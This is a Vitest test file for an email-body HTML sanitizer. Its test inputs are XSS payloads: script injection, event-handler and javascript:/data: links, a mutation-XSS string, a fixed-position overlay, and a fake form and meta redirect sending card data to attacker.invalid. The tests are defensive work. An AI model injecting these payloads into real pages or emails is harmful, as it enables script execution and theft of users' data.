import { describe, expect, it } from 'vitest';
import { sanitizeEmailBody } from '@/features/email-history/model/sanitize-email-body';

function fragment(html: string): HTMLElement {
  const container = document.createElement('div');
  container.innerHTML = sanitizeEmailBody(html);
  return container;
}

describe('sanitizeEmailBody', () => {
  it('keeps formatting, tables and safe links', () => {
    const body = fragment(
      '<p>Hi <strong>Tom</strong>,</p><table><tr><td style="padding:4px">Total</td><td>$1,200.00</td></tr></table><a href="https://example.com/pay">Pay online</a>',
    );
    expect(body.querySelector('strong')?.textContent).toBe('Tom');
    expect(body.querySelector('td')?.getAttribute('style')).toBe('padding:4px');
    const link = body.querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.com/pay');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('removes scripts, style sheets, frames, forms and embedded objects but keeps the text around them', () => {
    const body = fragment(
      [
        '<style>body{display:none}</style><script>window.__pwned = 1</script>',
        '<p>Book your spring tune-up</p>',
        '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
        '<form action="https://attacker.invalid"><input name="card"><button>Confirm</button></form>',
        '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
        '<svg onload="alert(1)"><circle r="4"></circle></svg>',
        '<meta http-equiv="refresh" content="0;url=https://attacker.invalid"><base href="https://attacker.invalid/">',
      ].join(''),
    );
    expect(body.textContent).toContain('Book your spring tune-up');
    for (const selector of ['script', 'style', 'iframe', 'form', 'input', 'button', 'object', 'embed', 'svg', 'meta', 'base']) {
      expect(body.querySelector(selector), selector).toBeNull();
    }
  });

  it('strips event handlers and javascript: and data: links', () => {
    const body = fragment(
      [
        '<img src="x" onerror="alert(1)" alt="Banner">',
        '<p onclick="alert(1)" onmouseover="alert(2)">Fine print</p>',
        '<a href="javascript:alert(1)">Claim</a>',
        '<a href="JaVaScRiPt:alert(1)">Mixed</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data</a>',
        '<details open ontoggle="alert(1)"><summary>Notes</summary>Text</details>',
      ].join(''),
    );
    const html = body.innerHTML.toLowerCase();
    expect(html).not.toMatch(/\son[a-z]+=/);
    expect(html).not.toContain('javascript:');
    expect(html).not.toContain('data:text/html');
    expect(body.textContent).toContain('Fine print');
    expect(body.textContent).toContain('Claim');
  });

  it('defuses mutation XSS through foreign content', () => {
    const body = fragment('<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">');
    expect(body.innerHTML.toLowerCase()).not.toContain('onerror');
  });

  it('drops CSS positioning so nothing can cover the dialog, keeping the other inline styles', () => {
    const body = fragment('<div style="position:fixed;inset:0;background:#fff;color:#333">Next visit</div>');
    const div = body.querySelector('div')!;
    expect(div.style.position).toBe('');
    expect(div.style.background).toContain('rgb(255, 255, 255)');
    expect(div.textContent).toBe('Next visit');
  });

  it('marks images without a text alternative as decorative and prefixes ids', () => {
    const body = fragment('<img src="https://example.com/logo.png"><p id="root">Hello</p>');
    expect(body.querySelector('img')?.getAttribute('alt')).toBe('');
    expect(body.querySelector('p')?.id).not.toBe('root');
  });
});
